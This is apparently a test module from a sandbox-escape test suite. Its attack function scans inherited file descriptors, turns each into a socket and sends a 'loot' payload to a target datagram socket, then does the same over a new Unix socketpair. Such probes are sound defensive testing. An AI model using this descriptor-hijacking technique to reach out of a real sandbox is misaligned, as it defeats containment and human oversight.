"""Turns a descriptor that it was given into a connection elsewhere."""

import contextlib
import os
import socket

from tests.sandbox.escape.target import Harm, Target

HARM = Harm.CONTACT


def attack(target: Target) -> bytes:
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            held = socket.socket(fileno=os.dup(descriptor))
            held.sendto(b"loot", target.datagram_socket)
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect(target.datagram_socket)
    one.send(b"loot")
    return b""
